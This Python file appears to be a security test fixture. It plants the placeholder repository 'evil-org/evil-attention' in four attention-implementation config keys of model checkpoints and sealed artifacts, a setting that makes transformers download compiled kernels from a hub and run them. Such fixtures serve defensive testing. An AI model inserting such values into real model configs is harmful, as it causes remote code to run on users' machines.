"""An attention implementation of the form "org/name" makes transformers fetch compiled kernels from a hub and load them into
the process: code selected by a key of the data."""

from __future__ import annotations

from pathlib import Path

from victim import Commands, all_of, artifact, change, checkpoint, manifest, seal


def prepare(place: Path, canary: Path) -> Commands:
    commands = []
    for number, key in enumerate(
        ("_attn_implementation", "attn_implementation", "_attn_implementation_internal", "_experts_implementation")
    ):
        (place / str(number)).mkdir()
        folder = checkpoint(place / str(number))
        change(folder / "config.json", **{key: "evil-org/evil-attention"})
        commands += all_of(folder, "attn_implementation|experts_implementation")
        saved = artifact(place / str(number))
        data = manifest(saved)
        data["spec"]["config"][key] = "evil-org/evil-attention"
        seal(saved, data)
        commands += all_of(saved, "attn_implementation|experts_implementation")
    return commands
